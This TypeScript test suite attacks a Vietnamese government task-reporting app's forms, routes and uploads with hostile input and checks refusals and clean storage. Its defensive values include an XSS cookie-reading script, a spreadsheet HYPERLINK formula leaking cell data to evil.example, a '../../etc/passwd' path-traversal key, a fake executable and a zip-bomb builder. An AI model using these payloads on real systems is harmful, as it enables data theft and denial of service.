/**
 * The hostile-input suite (issue 10, item 8): every form, action, upload and route, fed what an
 * attacker or a broken client would send — NUL bytes, ids beyond 2³¹, negative and zero ids, hex
 * and empty numbers, zero-width-only text, NFD Vietnamese, 1 MB strings, XSS and formula strings,
 * path-traversal file names, renamed executables, a zip bomb, stale versions and double submits —
 * called as real users against real PostgreSQL.
 *
 * Each case states what must happen and is checked for the same three things:
 * 1. nothing but an AppError is thrown (anything else would be a 500 in the app);
 * 2. a refusal is in Vietnamese (the message, every field error, a JSON `error`), keeps what the
 *    user typed, and route refusals are 4xx;
 * 3. a refusal leaves the database exactly as it was (a checksum of every table's rows, and the
 *    upload folder's files); an accepted hostile value is stored cleaned (NFC, no NUL) or verbatim
 *    (XSS text is text: React escapes it when rendering).
 */
import { mkdtempSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { actAs, currentUser, unitId } from '../support/as-user';
import { calledEndpoints, listEndpoints, track } from '../support/endpoints';
import { expectVietnamese, form, outcomeOf, snapshot as snapshotOf, type Outcome } from '../support/outcome';

const uploadDir = mkdtempSync(path.join(os.tmpdir(), 'dondoc-hostile-'));
process.env.UPLOAD_DIR = uploadDir;
process.env.AUTH_SECRET ??= 'hostile-suite-secret';

vi.mock('../../lib/auth', async (importOriginal) => ({
  ...(await importOriginal<object>()),
  getCurrentUser: async () => currentUser(),
}));
vi.mock('next/cache', () => ({ revalidatePath: () => undefined }));
vi.mock('next/navigation', async () => (await import('../support/outcome')).navigationMock);

const { getDb } = await import('../../lib/db');
const { INITIAL_STATE } = await import('../../lib/action-state');
type ActionState = import('../../lib/action-state').ActionState;
const reports = track('lib/actions/reports.ts', await import('../../lib/actions/reports'));
const extensions = track('lib/actions/extensions.ts', await import('../../lib/actions/extensions'));
const programmes = track('lib/actions/admin-programmes.ts', await import('../../lib/actions/admin-programmes'));
const importer = track('lib/actions/admin-import.ts', await import('../../lib/actions/admin-import'));
const units = track('lib/actions/admin-units.ts', await import('../../lib/actions/admin-units'));
const users = track('lib/actions/admin-users.ts', await import('../../lib/actions/admin-users'));
const notifications = track('lib/actions/notifications.ts', await import('../../lib/actions/notifications'));
const account = track('lib/actions/account.ts', await import('../../lib/actions/account'));
const calendar = track('lib/actions/admin-calendar.ts', await import('../../lib/actions/admin-calendar'));
const indicators = track('lib/actions/admin-indicators.ts', await import('../../lib/actions/admin-indicators'));
const email = track('lib/actions/admin-email.ts', await import('../../lib/actions/admin-email'));
const apiTokens = track('lib/actions/admin-api-tokens.ts', await import('../../lib/actions/admin-api-tokens'));
const v1Assignments = track('app/api/v1/assignments/route.ts', await import('../../app/api/v1/assignments/route'));
const v1Assignment = track(
  'app/api/v1/assignments/[assignmentId]/route.ts',
  await import('../../app/api/v1/assignments/[assignmentId]/route'),
);
const v1Reports = track(
  'app/api/v1/assignments/[assignmentId]/reports/route.ts',
  await import('../../app/api/v1/assignments/[assignmentId]/reports/route'),
);
const v1Programmes = track('app/api/v1/programmes/route.ts', await import('../../app/api/v1/programmes/route'));
const v1Tasks = track(
  'app/api/v1/programmes/[programmeId]/tasks/route.ts',
  await import('../../app/api/v1/programmes/[programmeId]/tasks/route'),
);
const v1Indicators = track('app/api/v1/indicators/route.ts', await import('../../app/api/v1/indicators/route'));
const v1Document = track('app/api/v1/openapi.json/route.ts', await import('../../app/api/v1/openapi.json/route'));
const { hashApiToken } = await import('../../lib/data/api-tokens');
const login = track('lib/actions/login.ts', await import('../../lib/actions/login'));
const urging = track('lib/actions/urging.ts', await import('../../lib/actions/urging'));
const { saveReport } = await import('../../lib/data/reports');
const { listUsers } = await import('../../lib/data/admin-users');
const { parseId } = await import('../../lib/page-helpers');
const { searchTerm } = await import('../../lib/validation/fields');
const uploadRoute = track('app/api/evidence/route.ts', await import('../../app/api/evidence/route'));
const evidenceRoute = track(
  'app/api/evidence/[evidenceId]/route.ts',
  await import('../../app/api/evidence/[evidenceId]/route'),
);
const xlsxRoute = track('app/api/exports/xlsx/route.ts', await import('../../app/api/exports/xlsx/route'));
const docxRoute = track('app/api/exports/docx/route.ts', await import('../../app/api/exports/docx/route'));
const notificationRoute = track(
  'app/(app)/notifications/[notificationId]/route.ts',
  await import('../../app/(app)/notifications/[notificationId]/route'),
);
const jobsRoute = track('app/api/jobs/deadlines/route.ts', await import('../../app/api/jobs/deadlines/route'));
const letterRoute = track(
  'app/api/urging-letters/[letterId]/route.ts',
  await import('../../app/api/urging-letters/[letterId]/route'),
);

/** Entry points this suite does not call, each with its reason. Anything else without a row fails. */
const EXEMPT: Record<string, string> = {
  'app/api/health/route.ts#GET':
    'liveness: takes no input and tells nothing, open to every caller by design (tests/integration/health.test.ts)',
  'app/api/health/ready/route.ts#GET':
    'readiness: takes no input and tells only whether the database answers, open to the load balancer by design (tests/integration/health.test.ts)',
  'lib/actions/account.ts#changePasswordAction':
    'renews the session cookie, which needs a request scope; its schema (lib/validation/account.ts) is built from lib/validation/fields.ts and tests/integration/account-audit.test.ts sends it bad input',
  'lib/actions/logout.ts#logoutAction':
    'takes no input (whatever is posted is ignored) and needs a request scope for the cookie; e2e/auth.spec.ts signs out with and without JavaScript',
  'app/api/auth/[...nextauth]/route.ts#GET':
    'next-auth’s own handler; sign-in input is tested in tests/integration/auth.test.ts',
  'app/api/auth/[...nextauth]/route.ts#POST':
    'next-auth’s own handler; sign-in input is tested in tests/integration/auth.test.ts',
};
const { periodContaining } = await import('../../lib/domain/periods');
const { addDays, formatDateVn, vnDateOf } = await import('../../lib/domain/time');

const db = getDb();

// ───────────────────────────── Hostile values ─────────────────────────────

const NUL = '\u0000';
const ZW = '\u200B\u200C\u200D\u2060\uFEFF'.repeat(4);
const MB = 'Đ'.repeat(1024 * 1024);
const XSS = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"\'`';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")';
/** "Nguyễn Thị Hoà" decomposed (as a Mac keyboard or a PDF copy gives it). */
const NFD = 'Nguyễn Thị Hoà báo cáo tiến độ'.normalize('NFD');
const NFC = 'Nguyễn Thị Hoà báo cáo tiến độ';
const BEYOND_INT4 = '2147483648';

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1');
const EXE = (() => {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
})();

/** A .docx-looking ZIP whose directory announces 100 MB once expanded: refused before expanding. */
function zipBomb(): Buffer {
  const name = Buffer.from('word/document.xml');
  const data = Buffer.from('<w:document/>');
  const declared = 100 * 1024 * 1024;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(name.length, 28);
  const directory = Buffer.concat([central, name]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, name, data, directory, end]);
}

// ───────────────────────────── Calling things as the browser does ─────────────────────────────

function uploadRequest(
  fields: Record<string, string>,
  file?: { name: string; bytes: Buffer },
  headers: Record<string, string> = {},
) {
  const fd = new FormData();
  for (const [k, v] of Object.entries(fields)) fd.append(k, v);
  if (file) fd.append('file', new File([new Uint8Array(file.bytes)], file.name));
  return new Request('http://localhost/api/evidence', { method: 'POST', body: fd, headers });
}
const params = (evidenceId: string) => ({ params: Promise.resolve({ evidenceId }) });

const snapshot = () => snapshotOf(uploadDir);

// ───────────────────────────── The table ─────────────────────────────

type Expect =
  /** Refused with a message; nothing written. `field` must carry a message; `echo` must come back. */
  | { refused: true; field?: string; echo?: Record<string, string>; status?: number }
  /** Taken; `verify` checks what was stored. */
  | { refused: false; verify: (outcome: Outcome, unchanged: boolean) => Promise<void> | void };

type Case = { area: string; name: string; as: string | null; call: () => Promise<unknown> | unknown } & {
  expect: Expect;
};

const cases: Case[] = [];
const add = (
  area: string,
  as: string | null,
  list: [name: string, call: () => Promise<unknown> | unknown, expect: Expect][],
) => {
  for (const [name, call, e] of list) cases.push({ area, name, as, call, expect: e });
};
const refused = (field?: string, echo?: Record<string, string>): Expect => ({ refused: true, field, echo });
const refusedWith = (status: number): Expect => ({ refused: true, status });
const accepted = (verify: (outcome: Outcome, unchanged: boolean) => Promise<void> | void): Expect => ({
  refused: false,
  verify,
});
/** Answered without an error and without writing anything (a read, a redirect, a 404, a silent no-op). */
const harmless = (check: (outcome: Outcome) => void): Expect =>
  accepted((outcome, unchanged) => {
    check(outcome);
    expect(unchanged, 'nothing written').toBe(true);
  });

// Ids and fixtures, read in beforeAll.
const ids = {} as {
  a: number; // P-TRANPHU I.4 (one-off): the officer's report form
  other: number; // P-NAMHA I.4: another unit's assignment
  ext: number; // X-THACHHA I.1 (one-off, overdue): extension requests
  pendingExt: number; // the seed's pending request (P-NGUYENDU I.1)
  review: number; // a submitted report of P-NAMHA, for the reviewer
  yearly: number; // P-TRANPHU II.2 (yearly): uploads
  yearKey: string;
  programme: number;
  section: number;
  task: number;
  unit: number;
  unit2: number;
  user: number;
  evidence: number;
  apiSecret: string;
};
let reviewVersion = 0;
const later = () => formatDateVn(addDays(vnDateOf(new Date()), 30));

async function reportOf(assignmentId: number, periodKey = 'ONCE') {
  return db.report.findUnique({ where: { assignmentId_periodKey: { assignmentId, periodKey } } });
}
async function versionOf(assignmentId: number): Promise<string> {
  return String((await reportOf(assignmentId))?.version ?? 0);
}
const reportForm = async (over: Record<string, string>) =>
  form({
    assignmentId: String(ids.a),
    periodKey: 'ONCE',
    version: await versionOf(ids.a),
    progress: '30',
    content: 'Đang triển khai các bước.',
    intent: 'save',
    ...over,
  });
const save = (over: Record<string, string>) => async () =>
  reports.saveReportAction(INITIAL_STATE, await reportForm(over));
const review = (over: Record<string, string>) => () =>
  reports.reviewReportAction(
    INITIAL_STATE,
    form({
      reportId: String(ids.review),
      version: String(reviewVersion),
      decision: 'return',
      comment: 'Bổ sung số liệu.',
      ...over,
    }),
  );
const requestExt = (over: Record<string, string>) => () =>
  extensions.requestExtensionAction(
    INITIAL_STATE,
    form({
      assignmentId: String(ids.ext),
      requestedDueDate: later(),
      reason: 'Chờ hướng dẫn của tỉnh về biểu mẫu.',
      ...over,
    }),
  );
const decideExt = (over: Record<string, string>) => () =>
  extensions.decideExtensionAction(
    INITIAL_STATE,
    form({ extensionId: String(ids.pendingExt), decision: 'reject', comment: 'Đề nghị hoàn thành đúng hạn.', ...over }),
  );
const programmeForm = (over: Record<string, string>) => () =>
  programmes.createProgrammeAction(
    INITIAL_STATE,
    form({
      title: 'Kế hoạch kiểm tra CCHC 2027',
      issuingBody: 'UBND thành phố Hà Tĩnh',
      issuedOn: '15/01/2027',
      ...over,
    }),
  );
const taskForm = (over: Record<string, string>) => () =>
  programmes.createTaskAction(
    INITIAL_STATE,
    form({
      programmeId: String(ids.programme),
      sectionId: String(ids.section),
      number: '99',
      title: 'Nhiệm vụ thử',
      text: 'Nội dung nhiệm vụ thử.',
      recurrence: 'ONCE',
      dueDate: '31/12/2027',
      leadUnitId: '',
      collective: '',
      ...over,
    }),
  );
const indicatorForm = (over: Record<string, string>) => () =>
  indicators.createIndicatorAction(
    INITIAL_STATE,
    form({
      programmeId: String(ids.programme),
      sectionId: String(ids.section),
      code: 'THU-CT-01',
      name: 'Tỷ lệ hồ sơ trực tuyến',
      reformArea: 'DIGITAL_GOVERNMENT',
      measureUnit: '%',
      direction: 'HIGHER_IS_BETTER',
      baselineValue: '20',
      baselineYear: '2024',
      recurrence: 'YEARLY',
      targetYear1: '2030',
      targetValue1: '90',
      reporterUnitId: String(ids.unit),
      ...over,
    }),
  );
const unitForm = (over: Record<string, string>) => () =>
  units.createUnitAction(
    INITIAL_STATE,
    form({ code: 'X-THU', name: 'Xã Thử', kind: 'COMMUNE', validFrom: '01/01/2027', ...over }),
  );
const userForm = (over: Record<string, string>) => () =>
  users.createUserAction(
    INITIAL_STATE,
    form({
      username: 'cb.thu',
      displayName: 'Lê Văn Thử',
      role: 'OFFICER',
      unitId: String(ids.unit),
      password: 'Mot-mat-khau-du-dai',
      ...over,
    }),
  );
const upload =
  (fields: Record<string, string>, file?: { name: string; bytes: Buffer }, headers?: Record<string, string>) => () =>
    uploadRoute.POST(
      uploadRequest({ assignmentId: String(ids.yearly), periodKey: ids.yearKey, ...fields }, file, headers),
    );
const importJson =
  (
    mutate: (
      draft: Record<string, unknown> & {
        programme: Record<string, unknown>;
        sections: { title: string; numeral: string; tasks: Record<string, unknown>[] }[];
      },
    ) => void,
  ) =>
  () => {
    const task = {
      number: '1',
      title: 'Rà soát thủ tục',
      text: 'Rà soát thủ tục hành chính.',
      reformArea: '',
      dueDate: '30/06/2027',
      recurrence: 'ONCE',
      evidenceRequired: false,
      lead: 'TP',
      coordinators: [],
      coordinatingGroup: null,
      collective: null,
    };
    const draft = {
      programme: {
        title: 'Kế hoạch nhập thử',
        issuingBody: 'UBND thành phố Hà Tĩnh',
        issuedOn: '',
        summary: '',
        periodStart: '',
        periodEnd: '',
        documentNumber: '',
      },
      sourceText: 'I. Chung',
      sections: [{ numeral: 'I', title: 'Chung', tasks: [task] }],
    };
    mutate(draft);
    return importer.importProgrammeAction(JSON.stringify(draft));
  };

// Reports (officer cb.tranphu on P-TRANPHU I.4).
add('report', 'cb.tranphu', [
  ...[BEYOND_INT4, '99999999999999999999', '0', '-1', '0x10', '', '1e3', `12${NUL}`, ' 7 ', '１２'].map(
    (v): [string, () => Promise<unknown>, Expect] => [
      `assignmentId ${JSON.stringify(v)}`,
      save({ assignmentId: v }),
      refused('assignmentId', { assignmentId: v }),
    ],
  ),
  ...['', ' ', '0x32', '50.5', '-5', '101', '1e2', '5O', `50${NUL}`].map(
    (v): [string, () => Promise<unknown>, Expect] => [
      `progress ${JSON.stringify(v)} (no empty-as-zero, no hex)`,
      save({ progress: v }),
      refused('progress', { progress: v }),
    ],
  ),
  ...[BEYOND_INT4, '-1', '0x1', 'abc'].map((v): [string, () => Promise<unknown>, Expect] => [
    `version ${JSON.stringify(v)}`,
    save({ version: v }),
    refused('version'),
  ]),
  ...['../../etc/passwd', `ONCE${NUL}`, '2026-13', ''].map((v): [string, () => Promise<unknown>, Expect] => [
    `periodKey ${JSON.stringify(v)}`,
    save({ periodKey: v }),
    refused('periodKey'),
  ]),
  ['intent "delete"', save({ intent: 'delete' }), refused('intent')],
  ['content of 1 MB', save({ content: MB }), refused('content')],
  ['difficulties of 1 MB', save({ difficulties: MB }), refused('difficulties')],
  ['content 10 001 characters', save({ content: 'a'.repeat(10_001) }), refused('content')],
  ['submit with zero-width-only content', save({ content: ZW, intent: 'submit' }), refused('content', { content: ZW })],
  ['submit with NUL-only content', save({ content: NUL.repeat(20), intent: 'submit' }), refused('content')],
  [
    'another unit’s assignment',
    async () =>
      reports.saveReportAction(INITIAL_STATE, await reportForm({ assignmentId: String(ids.other), version: '0' })),
    refused(),
  ],
  ['an assignment that does not exist (int4 max)', save({ assignmentId: '2147483647', version: '0' }), refused()],
  [
    'content with NUL bytes, NFD and bidi overrides is stored clean',
    save({ content: `${NFD}${NUL}\u202E gdc${NUL}`, difficulties: ZW, proposals: `  ${NUL}  ` }),
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'state', state: { ok: true } });
      const r = await reportOf(ids.a);
      expect(r).toMatchObject({ content: `${NFC} gdc`, difficulties: null, proposals: null });
    }),
  ],
  [
    'XSS text is stored as text, verbatim',
    save({ content: XSS, difficulties: FORMULA }),
    accepted(async () => expect(await reportOf(ids.a)).toMatchObject({ content: XSS, difficulties: FORMULA })),
  ],
  [
    'a stale version (another tab saved since)',
    async () => reports.saveReportAction(INITIAL_STATE, await reportForm({ version: '1' })),
    refused(),
  ],
  [
    'a version from the future',
    async () => reports.saveReportAction(INITIAL_STATE, await reportForm({ version: '2147483647' })),
    refused(),
  ],
  [
    'a double submit of the same form: one save, one refusal',
    async () => {
      const fd = await reportForm({ content: 'Bấm hai lần liền.' });
      return Promise.all([reports.saveReportAction(INITIAL_STATE, fd), reports.saveReportAction(INITIAL_STATE, fd)]);
    },
    accepted(async (o) => {
      const states = (o as { kind: 'value'; value: ActionState[] }).value;
      expect(states.map((s) => s.ok).sort()).toEqual([false, true]);
      const refusedOne = states.find((s) => !s.ok)!;
      expectVietnamese(refusedOne.message, 'double submit');
      expect(refusedOne.stale).toBe(true);
      expect((await reportOf(ids.a))?.content).toBe('Bấm hai lần liền.');
    }),
  ],
  [
    'the data layer itself refuses NUL (the last line of defence), nothing written',
    async () =>
      saveReport({
        assignmentId: ids.a,
        periodKey: 'ONCE',
        version: Number(await versionOf(ids.a)),
        progress: 40,
        content: `bypass${NUL}`,
        difficulties: null,
        proposals: null,
        noEvidenceReason: null,
        intent: 'save',
      }),
    refused(),
  ],
]);

// Reviews (tp.noivu on a submitted report of P-NAMHA).
add('review', 'tp.noivu', [
  ['return with a zero-width-only reason', review({ comment: ZW }), refused('comment', { comment: ZW })],
  ['return with a NUL-only reason', review({ comment: NUL.repeat(10) }), refused('comment')],
  ['return with a blank reason', review({ comment: ' \t\n ' }), refused('comment')],
  ['return with a 1 MB reason', review({ comment: MB }), refused('comment')],
  ...[BEYOND_INT4, '-3', 'abc', '0x1'].map((v): [string, () => unknown, Expect] => [
    `reportId ${JSON.stringify(v)}`,
    review({ reportId: v }),
    refused('reportId'),
  ]),
  ['version "x"', review({ version: 'x' }), refused('version')],
  ['version 0', review({ version: '0' }), refused('version')],
  [`decision "approve${'\\u0000'}"`, review({ decision: `approve${NUL}` }), refused('decision')],
  [
    'a stale version',
    () =>
      reports.reviewReportAction(
        INITIAL_STATE,
        form({ reportId: String(ids.review), version: String(reviewVersion - 1), decision: 'approve', comment: '' }),
      ),
    refused(),
  ],
  [
    'return with an NFD reason holding NUL: stored NFC, without NUL',
    review({ comment: `${NFD}${NUL}, thiếu biên bản.` }),
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'state', state: { ok: true } });
      expect((await db.report.findUniqueOrThrow({ where: { id: ids.review } })).reviewComment).toBe(
        `${NFC}, thiếu biên bản.`,
      );
    }),
  ],
  ['the same decision sent twice (the second is stale)', review({}), refused()],
]);
add('review', 'cb.namha', [['an officer reviewing', review({ decision: 'approve' }), refused()]]);

// Extensions: requests (cb.thachha on X-THACHHA I.1, overdue) and decisions (chutich).
add('extension', 'cb.thachha', [
  ...[
    '31/12/9999',
    '9999-12-31',
    '01/01/1999',
    '30/02/2027',
    'ngày mai',
    '',
    `15/06/2027${NUL}`,
    '2027-6-15x',
    '-1',
  ].map((v): [string, () => unknown, Expect] => [
    `requestedDueDate ${JSON.stringify(v)}`,
    requestExt({ requestedDueDate: v }),
    refused('requestedDueDate', { requestedDueDate: v }),
  ]),
  ['reason zero-width only', requestExt({ reason: ZW }), refused('reason', { reason: ZW })],
  ['reason NUL only', requestExt({ reason: NUL.repeat(30) }), refused('reason')],
  ['reason too short', requestExt({ reason: 'ngắn' }), refused('reason')],
  ['reason of 1 MB', requestExt({ reason: MB }), refused('reason')],
  ['assignmentId beyond int4', requestExt({ assignmentId: BEYOND_INT4 }), refused('assignmentId')],
  ['assignmentId in hex', requestExt({ assignmentId: '0x1' }), refused('assignmentId')],
  ['another unit’s assignment', () => requestExt({ assignmentId: String(ids.other) })(), refused()],
  [
    'a reason in NFD with NUL is stored clean',
    requestExt({ reason: `${NFD}${NUL} chờ tỉnh.` }),
    accepted(async (o) => {
      // Accepted: the page reloads with its confirmation (components/ui/notice.tsx).
      expect(o, JSON.stringify(o)).toMatchObject({
        kind: 'redirect',
        url: expect.stringMatching(/\?notice=extension-requested$/),
      });
      const e = await db.deadlineExtension.findFirstOrThrow({ where: { assignmentId: ids.ext, status: 'PENDING' } });
      expect(e.reason).toBe(`${NFC} chờ tỉnh.`);
    }),
  ],
  ['the same request sent twice (one is pending)', requestExt({}), refused()],
]);
add('extension', 'chutich', [
  ...[BEYOND_INT4, '-1', '', '1.5'].map((v): [string, () => unknown, Expect] => [
    `extensionId ${JSON.stringify(v)}`,
    decideExt({ extensionId: v }),
    refused('extensionId'),
  ]),
  ['decision "maybe"', decideExt({ decision: 'maybe' }), refused('decision')],
  ['reject with a zero-width reason', decideExt({ comment: ZW }), refused('comment')],
  ['reject with a NUL-only reason', decideExt({ comment: NUL.repeat(8) }), refused('comment')],
  ['a 1 MB comment', decideExt({ comment: MB }), refused('comment')],
  [
    'reject with an XSS reason: stored verbatim',
    decideExt({ comment: XSS }),
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'redirect', url: expect.stringMatching(/\?notice=extension-/) });
      expect((await db.deadlineExtension.findUniqueOrThrow({ where: { id: ids.pendingExt } })).decisionComment).toBe(
        XSS,
      );
    }),
  ],
  ['the same decision twice', decideExt({ decision: 'approve', comment: '' }), refused()],
]);

// Programmes, sections, tasks, assignments (admin).
add('programme', 'admin', [
  ['title NUL only', programmeForm({ title: NUL.repeat(5) }), refused('title')],
  ['title zero-width only', programmeForm({ title: ZW }), refused('title', { title: ZW })],
  ['title of 1 MB', programmeForm({ title: MB }), refused('title')],
  ['issuing body blank', programmeForm({ issuingBody: '   ' }), refused('issuingBody')],
  ['issued on 31/12/9999', programmeForm({ issuedOn: '31/12/9999' }), refused('issuedOn')],
  ['issued on 00/00/0000', programmeForm({ issuedOn: '00/00/0000' }), refused('issuedOn')],
  [
    'period ends before it starts',
    programmeForm({ periodStart: '01/06/2027', periodEnd: '01/01/2027' }),
    refused('periodEnd'),
  ],
  ['summary of 1 MB', programmeForm({ summary: MB }), refused('summary')],
  [
    'a title with NUL and NFD is stored NFC without NUL',
    programmeForm({ title: `${NFD}${NUL}` }),
    accepted(async (o) => {
      expect(o.kind).toBe('redirect');
      const id = Number((o as { url: string }).url.split('/').pop());
      expect((await db.programme.findUniqueOrThrow({ where: { id } })).title).toBe(NFC);
    }),
  ],
  [
    'an XSS title is stored verbatim',
    programmeForm({ title: XSS }),
    accepted(async (o) => {
      const id = Number((o as { url: string }).url.split('/').pop());
      expect((await db.programme.findUniqueOrThrow({ where: { id } })).title).toBe(XSS);
    }),
  ],
  [
    'update: programmeId beyond int4',
    () =>
      programmes.updateProgrammeAction(INITIAL_STATE, form({ programmeId: BEYOND_INT4, title: 'X', issuingBody: 'Y' })),
    refused('programmeId'),
  ],
  [
    'update: programmeId 1.5',
    () => programmes.updateProgrammeAction(INITIAL_STATE, form({ programmeId: '1.5', title: 'X', issuingBody: 'Y' })),
    refused('programmeId'),
  ],
  [
    'archive: id beyond int4',
    () => programmes.programmeStatusAction(INITIAL_STATE, form({ id: BEYOND_INT4, intent: 'archive' })),
    refused(),
  ],
  [
    'status: intent "drop"',
    () => programmes.programmeStatusAction(INITIAL_STATE, form({ id: String(ids.programme), intent: 'drop' })),
    refused(),
  ],
  [
    'section: programmeId beyond int4',
    () =>
      programmes.createSectionAction(INITIAL_STATE, form({ programmeId: BEYOND_INT4, numeral: 'IX', title: 'Mục' })),
    refused('programmeId'),
  ],
  [
    'section: numeral zero-width',
    () =>
      programmes.createSectionAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), numeral: ZW, title: 'Mục' }),
      ),
    refused('numeral'),
  ],
  [
    'section: title NUL only',
    () =>
      programmes.createSectionAction(
        INITIAL_STATE,
        form({ programmeId: String(ids.programme), numeral: 'IX', title: NUL }),
      ),
    refused('title'),
  ],
  [
    'section update: id "-1"',
    () => programmes.updateSectionAction(INITIAL_STATE, form({ sectionId: '-1', numeral: 'I', title: 'Mục' })),
    refused('sectionId'),
  ],
  ['section delete: id in hex', () => programmes.deleteSectionAction(INITIAL_STATE, form({ id: '0x1' })), refused()],
  ['task: sectionId beyond int4', taskForm({ sectionId: BEYOND_INT4 }), refused('sectionId')],
  ['task: leadUnitId beyond int4', taskForm({ leadUnitId: BEYOND_INT4 }), refused('leadUnitId')],
  ['task: leadUnitId in hex', taskForm({ leadUnitId: '0x5' }), refused('leadUnitId')],
  ['task: due 31/12/9999', taskForm({ dueDate: '31/12/9999' }), refused('dueDate')],
  ['task: recurrence "DAILY"', taskForm({ recurrence: 'DAILY' }), refused('recurrence')],
  ['task: text of 1 MB', taskForm({ text: MB }), refused('text')],
  ['task: evidenceRequired "yes"', taskForm({ evidenceRequired: 'yes' }), refused('evidenceRequired')],
  ['task: reform area "<script>"', taskForm({ reformArea: '<script>' }), refused('reformArea')],
  ['task: title zero-width only', taskForm({ title: ZW }), refused('title')],
  [
    'task update: taskId "-1"',
    () =>
      programmes.updateTaskAction(
        INITIAL_STATE,
        form({ taskId: '-1', sectionId: String(ids.section), number: '1', title: 'X', text: 'Y', recurrence: 'ONCE' }),
      ),
    refused('taskId'),
  ],
  [
    'task update: a formula title is stored verbatim (the export defuses it)',
    async () => {
      const t = await db.task.findUniqueOrThrow({
        where: { id: ids.task },
        select: { sectionId: true, number: true, text: true, recurrence: true, dueDate: true },
      });
      return programmes.updateTaskAction(
        INITIAL_STATE,
        form({
          taskId: String(ids.task),
          sectionId: String(t.sectionId),
          number: t.number,
          title: FORMULA,
          text: t.text,
          recurrence: t.recurrence,
          dueDate: t.dueDate ? formatDateVn(t.dueDate.toISOString().slice(0, 10)) : '',
        }),
      );
    },
    accepted(async (o) => {
      expect(o).toMatchObject({ kind: 'state', state: { ok: true } });
      expect((await db.task.findUniqueOrThrow({ where: { id: ids.task } })).title).toBe(FORMULA);
    }),
  ],
  [
    'task status: id beyond int4',
    () => programmes.taskStatusAction(INITIAL_STATE, form({ id: BEYOND_INT4, intent: 'archive' })),
    refused(),
  ],
  [
    'matrix: unit key beyond int4',
    () =>
      programmes.setTaskAssignmentsAction(
        INITIAL_STATE,
        form({ taskId: String(ids.task), [`role.${BEYOND_INT4}`]: 'LEAD' }),
      ),
    refused(),
  ],
  [
    'matrix: role "BOSS"',
    () =>
      programmes.setTaskAssignmentsAction(
        INITIAL_STATE,
        form({ taskId: String(ids.task), [`role.${ids.unit}`]: 'BOSS' }),
      ),
    refused(),
  ],
  [
    'matrix: taskId beyond int4',
    () => programmes.setTaskAssignmentsAction(INITIAL_STATE, form({ taskId: BEYOND_INT4 })),
    refused('taskId'),
  ],
  [
    'fan-out: group "EVERYONE"',
    () =>
      programmes.fanOutTaskAction(
        INITIAL_STATE,
        form({ taskId: String(ids.task), group: 'EVERYONE', role: 'IMPLEMENTING' }),
      ),
    refused('group'),
  ],
  [
    'fan-out: taskId 0',
    () => programmes.fanOutTaskAction(INITIAL_STATE, form({ taskId: '0', group: 'ALL', role: 'IMPLEMENTING' })),
    refused('taskId'),
  ],
  [
    'a form that is not a form',
    () => programmes.createProgrammeAction(INITIAL_STATE, 'title=x' as unknown as FormData),
    refused(),
  ],
]);
// Indicators (decision 023).
add('indicator', 'admin', [
  ['indicator: name NUL only', indicatorForm({ name: NUL }), refused('name')],
  ['indicator: name zero-width only', indicatorForm({ name: ZW }), refused('name')],
  ['indicator: code with markup', indicatorForm({ code: XSS }), refused('code')],
  ['indicator: text of 1 MB', indicatorForm({ text: MB }), refused('text')],
  ['indicator: target value in hex', indicatorForm({ targetValue1: '0x5A' }), refused('targetValue1')],
  ['indicator: target value with exponent', indicatorForm({ targetValue1: '9e1' }), refused('targetValue1')],
  ['indicator: target value negative', indicatorForm({ targetValue1: '-90' }), refused('targetValue1')],
  ['indicator: baseline 10¹³', indicatorForm({ baselineValue: '9999999999999' }), refused('baselineValue')],
  ['indicator: target year 99999', indicatorForm({ targetYear1: '99999' }), refused('targetYear1')],
  ['indicator: direction "SIDEWAYS"', indicatorForm({ direction: 'SIDEWAYS' }), refused('direction')],
  ['indicator: period "DAILY"', indicatorForm({ recurrence: 'DAILY' }), refused('recurrence')],
  ['indicator: reporter beyond int4', indicatorForm({ reporterUnitId: BEYOND_INT4 }), refused('reporterUnitId')],
  ['indicator: programmeId beyond int4', indicatorForm({ programmeId: BEYOND_INT4 }), refused('programmeId')],
  ['indicator: a section that does not exist', indicatorForm({ sectionId: '2147483647' }), refused('sectionId')],
  [
    'indicator: NFD name stored NFC, formula measure unit kept as text',
    indicatorForm({ code: 'THU-NFD', name: NFD, measureUnit: '=1+1' }),
    accepted(async (o) => {
      expect(o.kind).toBe('redirect');
      const row = await db.indicator.findUniqueOrThrow({ where: { code: 'THU-NFD' } });
      expect(row.name).toBe(NFC);
      expect(row.measureUnit).toBe('=1+1');
    }),
  ],
  [
    'indicator update: id beyond int4',
    () =>
      indicators.updateIndicatorAction(
        INITIAL_STATE,
        form({ indicatorId: BEYOND_INT4, code: 'X', name: 'X', reformArea: 'INSTITUTIONS', measureUnit: '%' }),
      ),
    refused('indicatorId'),
  ],
  [
    'indicator status: intent "drop"',
    () => indicators.indicatorStatusAction(INITIAL_STATE, form({ indicatorId: '1', intent: 'drop' })),
    refused(),
  ],
  [
    'indicator status: id in hex',
    () => indicators.indicatorStatusAction(INITIAL_STATE, form({ indicatorId: '0x1', intent: 'deactivate' })),
    refused(),
  ],
]);
